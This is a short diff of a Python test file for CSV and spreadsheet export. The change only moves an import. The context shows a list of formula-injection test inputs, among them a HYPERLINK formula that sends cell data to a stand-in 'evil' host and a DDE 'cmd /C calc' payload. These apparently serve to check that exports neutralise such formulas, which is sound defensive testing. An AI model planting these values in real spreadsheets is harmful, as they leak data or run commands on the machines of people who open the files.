@@ -9,8 +9,8 @@ from typing import Any
 
 import pytest
 
+from backend.kit.exports.table_files import csv_text, table_file
 from backend.kit.format import sayable
-from backend.kit.table_files import csv_text, table_file
 
 FORMULAS = [
     '=HYPERLINK("http://evil?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1)", "\t=1+1", "\r=1",
